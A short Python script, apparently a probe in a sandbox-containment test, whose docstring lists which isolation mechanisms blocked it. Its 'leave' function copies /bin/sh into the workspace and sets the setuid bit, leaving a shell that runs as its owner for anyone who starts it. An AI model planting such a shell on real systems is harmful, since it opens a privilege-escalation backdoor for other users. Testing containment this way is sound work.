"""Leaves a program in the workspace that runs as its owner, whoever starts it.

bubblewrap: blocked
landlock: blocked
limits: open
"""

import os
import shutil

from scene import attempt


def leave():
    shutil.copyfile("/bin/sh", "shell")
    os.chmod("shell", 0o4755)


attempt(leave)
